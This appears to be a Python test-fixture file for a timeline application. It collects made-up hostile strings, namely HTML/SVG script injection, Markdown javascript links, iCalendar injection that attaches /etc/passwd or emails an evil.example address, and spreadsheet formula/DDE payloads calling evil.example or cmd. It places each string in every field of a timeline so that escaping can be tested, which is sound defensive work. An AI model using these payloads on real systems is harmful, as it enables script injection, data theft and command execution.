"""Texts that attack who reads them, by the program they are aimed at; all made up."""

from __future__ import annotations

from dataclasses import fields
from typing import Any

from tests.made import event, timeline
from timeline.model import ArticleSummary, Event, Mention, Problem, Timeline, Unplaced

MARKUP = (
    "<script>hurt()</script>",
    "</script><script>hurt()</script>",
    "<!--<script>",
    "</style><img src=x onerror=hurt()>",
    "</title><svg onload=hurt()>",
    '"><img src=x onerror=hurt()>',
    "' onmouseover='hurt()",
    "javascript:hurt()",
    "<a href='javascript:hurt()'>click</a>",
    "&lt;img src=x onerror=hurt()&gt;",
    "&#60;script&#62;hurt()&#60;/script&#62;",
    "]]><script>hurt()</script>",
    "{{ 7 * 7 }}{% raw %}",
    "${hurt()}`;hurt()//",
    "\\u003cscript>hurt()</script>",
    "<b>bold</b><br><sup>up</sup>%{customdata}",
    "$\\href{javascript:hurt()}{x}$",
    "\u202etxt.exe\u2066 \u0000\u001b[31m\u0085\ufeff\ud800\udc00\U0010ffff",
    "<iframe srcdoc='<script>parent.hurt()</script>'>",
    "<base href=//evil><meta http-equiv=refresh content=0>",
    "__proto__",
    "constructor",
    "</textarea></select></noscript></template><img src=x onerror=hurt()>",
    "<svg><style><img src=x onerror=hurt()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt()>",
    "<details open ontoggle=hurt()><summary>x</summary></details>",
    "<input autofocus onfocus=hurt()><body onload=hurt()>",
    "<object data='data:text/html,<script>hurt()</script>'></object>",
    "java\tscript:hurt()",
    "https://example.org/\"onmouseover='hurt()'",
    "https://example.org/<script>hurt()</script>",
    "data:text/html,<script>hurt()</script>",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}hurt()",
    "<img\x0csrc=x\x0conerror=hurt()>",
    "<img src=x onerror\x00=hurt()>",
)
"""Aimed at HTML and SVG; `hurt` is a function that the page would call."""

MARKDOWN = (
    "![x](http://evil.example/x.png) [y](javascript:hurt()) https://evil.example <b>z</b> `code`",
    "[x]: javascript:hurt()",
    "</td></tr></table>\n\n<img src=x onerror=hurt()>",
    "a | b\n\n<img src=x onerror=hurt()>\n\n| c",
    "`</code><img src=x onerror=hurt()>`",
    "<javascript:hurt()>",
    "[x](<javascript:hurt()>)",
    "\\<img src=x onerror=hurt()>",
    "\\\\<img src=x onerror=hurt()>",
    "a | b || c \\| d *e* ~~f~~ $g$ {{ h }} &lt; #1",
    "&colon; [x](javascript&colon;hurt())",
    "```\n<img src=x onerror=hurt()>\n```",
)

CALENDAR = (
    "BEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:mailto:a@evil.example\r\nEND:VALARM",
    "x\nATTACH:file:///etc/passwd",
    "x\rATTENDEE:mailto:a@evil.example",
    "x\N{LINE SEPARATOR}ATTACH:file:///etc/passwd\N{NEXT LINE}URL:javascript:hurt()",
    "x\\nATTACH:file:///etc/passwd\\;\\,",
    "x\x0bATTACH:y\x0cATTACH:z\x1cATTACH:q",
)

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\0=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u2028=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1",
    "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{MINUS SIGN}1+1",
    "'=1+1",
    '"=1+1"',
    'a"\r\n=1+1,"',
    "a;=1+1;b",
    "a\t=1+1\tb",
    "=HYPERLINK(\"http://evil.example\";\"click\")",
    "=cmd|'/C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "%=1+1",
    "{=1+1}",
    "_x003D_1+1",
)  # fmt: skip
"""Aimed at spreadsheets."""

STRANGE = (
    "http://evil.example/click",
    "<r><t>rich</t></r>",
    "nul \0 bell \7 surrogate \ud800 bidi \u202e end",
    "_x0041_",
    "\x1b]0;title\x07\x1b[2J\x9b31m",
    "a\x0bb\x0cc\x1cd\x85e\u2028f\u2029g",
    "e\u0301" * 50,
    "\ufffe\uffff\U0001fffe",
)

ALL = (*MARKUP, *MARKDOWN, *CALENDAR, *FORMULAS, *STRANGE)


def everywhere(*texts: str) -> Timeline:
    """Two events for each text, which stands everywhere that text can stand."""
    names = [f.name for f in fields(Event) if f.type == "str"]
    events = []
    left, articles, problems = [], [], []
    for number, text in enumerate(texts):
        words: dict[str, Any] = dict.fromkeys(names, text)
        mention = Mention(text, text, text, 0, 1, text, text, text)
        several = {"actors": (text, f"{text}!"), "contested": (text,), "mentions": (mention, mention)}
        events += [
            event(**words | several | {"extra": {text: text}}),
            event(
                "2024-10-25",
                **words | {"id": f"b{number}", "source": "x", "actors": (text,), "expression": ""},
            ),
        ]
        left.append(Unplaced(text, 0, 1, text, text, text))
        articles.append(ArticleSummary(text, text, text, text, None, None))
        problems.append(Problem(text, text, text))
    made = timeline(*events, unplaced=tuple(left))
    return Timeline(made.events, made.unplaced, tuple(articles), texts, tuple(problems))
